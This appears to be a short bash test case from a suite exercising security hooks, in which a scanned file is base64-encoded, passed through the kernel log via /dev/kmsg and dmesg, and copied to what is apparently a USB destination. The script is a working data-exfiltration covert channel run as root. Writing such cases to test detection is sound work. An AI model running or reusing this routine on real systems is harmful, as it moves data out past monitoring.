#!/usr/bin/env bash
# technique: lines written to the kernel's log by one process are read by another
# hooks: file_permission (of a device), syslog, file_open
# sink: usb
# as: root

. attack.sh
base64 -w 400 "$SCAN" | head -n 20 | sed "s/^/$here:/" >"$ROOM/lines"
while IFS= read -r line; do echo "$line" >/dev/kmsg; done <"$ROOM/lines"
dmesg | grep "$here:" >"$ROOM/found" && cp "$ROOM/found" "$COPY"
